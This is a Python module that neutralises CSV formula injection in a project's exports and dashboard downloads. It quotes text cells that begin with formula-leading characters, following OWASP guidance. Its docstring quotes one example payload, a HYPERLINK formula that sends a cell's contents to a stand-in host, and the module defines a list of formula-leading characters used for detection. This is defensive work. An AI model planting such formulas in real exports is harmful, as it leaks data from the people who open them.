"""Cells a spreadsheet would run as formulas, neutralised (OWASP "CSV Injection").

Every value of the exports is untrusted: an id such as `=HYPERLINK("http://x/?"&A1,"click")` opened in
Excel, LibreOffice or Google Sheets would run. OWASP's guidance: a cell that begins with `=`, `+`,
`-`, `@`, a tab or a carriage return gets a leading single quote, so the spreadsheet shows it as
text; quoting of separators and quotes is left to the CSV writer. Numbers stay numbers (a negative
number is a number, not a formula); only text cells are touched.

Used by every CSV the project writes (`compliance check --format csv`, the dashboard's downloads)
and by the dashboard's grids, whose built-in "download as CSV" writes cells as shown.
"""

from __future__ import annotations

from typing import Any

import polars as pl

__all__ = ["FORMULA_LEADS", "neutralise", "neutralise_frame", "safe_csv"]

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")  # and full-width forms


def neutralise(value: Any) -> Any:
    """`value` with a leading `'` when it is text that a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_LEADS):
        return "'" + value
    return value


def _text_expr(column: str) -> pl.Expr:
    col = pl.col(column)
    leads = pl.any_horizontal([col.str.starts_with(lead) for lead in FORMULA_LEADS])
    return pl.when(leads).then(pl.lit("'") + col).otherwise(col).alias(column)


def neutralise_frame(frame: pl.DataFrame) -> pl.DataFrame:
    """Every text cell of `frame` neutralised (categoricals become text); text lists item by item."""
    categorical = [n for n, d in frame.schema.items() if isinstance(d, pl.Categorical | pl.Enum)]
    if categorical:
        frame = frame.with_columns(pl.col(categorical).cast(pl.String))
    exprs = []
    for name, dtype in frame.schema.items():
        if dtype == pl.String:
            exprs.append(_text_expr(name))
        elif dtype == pl.List(pl.String):
            exprs.append(pl.col(name).list.eval(_text_expr("")).alias(name))
    return frame.with_columns(exprs) if exprs else frame


def safe_csv(frame: pl.DataFrame, **write_csv: Any) -> str:
    """`frame` as CSV text with formula-leading text cells neutralised."""
    return neutralise_frame(frame).write_csv(**write_csv)
